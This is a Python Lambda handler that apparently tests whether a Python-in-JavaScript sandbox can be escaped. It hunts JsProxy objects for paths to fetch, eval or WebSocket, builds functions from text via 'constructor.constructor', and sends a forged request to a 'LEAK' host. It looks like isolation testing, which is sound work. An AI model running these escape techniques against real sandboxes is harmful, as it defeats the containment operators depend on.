import gc
import os
import sys

from attempts import attempts


def proxies():
    """Every value of JavaScript that a container of Python holds."""
    found = {}
    holders = [vars(module) for module in list(sys.modules.values()) if hasattr(module, "__dict__")]
    holders += [held for held in gc.get_objects() if isinstance(held, dict)]
    for holder in holders:
        for key, value in list(holder.items()):
            if "JsProxy" in type(value).__name__ or "JsProxy" in str(type(value).__mro__):
                found[id(value)] = (str(key), value)
    for held in gc.get_objects():
        if isinstance(held, (list, tuple)):
            for value in held:
                if "JsProxy" in type(value).__name__:
                    found[id(value)] = ("in a list", value)
    return list(found.values())


def walk(limit=400):
    """Follows properties from each of them, and looks for what leads out."""
    seen, queue, names = set(), [(name, value) for name, value in proxies()], []
    while queue and len(seen) < limit:
        path, value = queue.pop(0)
        try:
            keys = [key for key in dir(value) if not key.startswith("__")]
        except Exception:
            continue
        for key in [*keys, "constructor", "prototype", "__proto__"]:
            try:
                inner = getattr(value, key)
            except Exception:
                continue
            if "Js" not in type(inner).__name__:
                continue
            name = f"{path}.{key}"
            if name.count(".") > 5 or name in seen:
                continue
            seen.add(name)
            if key in ("fetch", "eval", "Function", "globalThis", "importScripts", "WebSocket", "XMLHttpRequest", "indexedDB", "port", "postMessage", "Worker"):
                names.append(name)
            queue.append((name, inner))
    return names, len(seen)


def found():
    names, count = walk()
    if names:
        return names[:20]
    raise LookupError(f"{len(proxies())} objects of JavaScript are held, {count} more behind them, and none leads out")


def evaluated():
    made = []
    for name, value in proxies():
        for way in ("constructor.constructor", "call.constructor", "log.constructor", "constructor.constructor.constructor"):
            try:
                at = value
                for key in way.split("."):
                    at = getattr(at, key)
                result = at("return typeof setTimeout")()
                made.append(f"{name}.{way}: {result}"[:120])
            except Exception:
                continue
    if made:
        return made
    raise LookupError("no function is made from text")


def forged_call():
    from _runtime import cage

    host = os.environ["LEAK"].split("/")[2]
    status, headers, body = cage.call("GET", host, "/leak/forged", "", [["host", host]], b"")
    if status == 200:
        return status
    raise ConnectionError(f"the cloud answers {status}")


def lambda_handler(event, context):
    return attempts(found=found, evaluated=evaluated, forged_call=forged_call)
